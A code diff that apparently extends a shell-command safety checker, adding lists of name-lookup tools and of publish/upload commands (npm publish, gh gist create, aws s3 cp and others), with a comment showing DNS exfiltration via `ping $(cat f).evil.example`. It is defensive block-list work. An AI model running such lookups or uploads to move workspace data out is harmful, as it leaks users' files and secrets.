@@ -187,6 +187,24 @@ DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "xh
 # Network clients: fed from a pipe or a file, or given a file to upload, they send local data away.
 NETWORK_CLIENTS = DOWNLOADERS | {"nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "ftp", "rsync",
                                  "openssl", "sendmail", "mail", "mutt"}
+# Programs that look names up or reach a host: a name built at run time (`ping $(cat f).evil.example`)
+# carries local data out in the lookup itself.
+ADDRESS_CLIENTS = frozenset({"ping", "ping6", "dig", "host", "nslookup", "drill", "getent", "traceroute", "tracepath",
+                             "whois", "mtr", "arping", "nmap"})
+# Commands that publish or upload what is in the workspace: program -> {subcommand: the next words
+# that publish (empty: any)}; "" as the subcommand means the program itself.
+PUBLISHERS: dict[str, dict[str, frozenset[str]]] = {
+    "hg": {"push": frozenset()}, "svn": {"commit": frozenset(), "import": frozenset()},
+    **{name: {"publish": frozenset()} for name in ("npm", "pnpm", "yarn", "cargo", "poetry", "uv", "hatch", "flit")},
+    "twine": {"upload": frozenset()}, "gem": {"push": frozenset()},
+    "gh": {"gist": frozenset({"create", "edit"}), "release": frozenset({"create", "upload"}),
+           "repo": frozenset({"create"})},
+    "glab": {"snippet": frozenset({"create"})}, "aws": {"s3": frozenset({"cp", "sync", "mv"})},
+    "gsutil": {"cp": frozenset(), "rsync": frozenset()}, "gcloud": {"storage": frozenset({"cp", "rsync"})},
+    "rclone": {sub: frozenset() for sub in ("copy", "sync", "move", "copyto", "moveto", "rcat")},
+    "s3cmd": {"put": frozenset(), "sync": frozenset()}, "croc": {"send": frozenset()},
+    "wormhole": {"send": frozenset()}, "pastebinit": {"": frozenset()}, "ffsend": {"upload": frozenset()},
+}
 UPLOAD_OPTIONS = ("--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "--json", "--form",
                   "--form-string", "--upload-file", "--post-file", "--body-file", "--body-data", "-d", "-F", "-T")
 MOVERS = frozenset({"mv", "cp", "install", "ln", "rsync"})
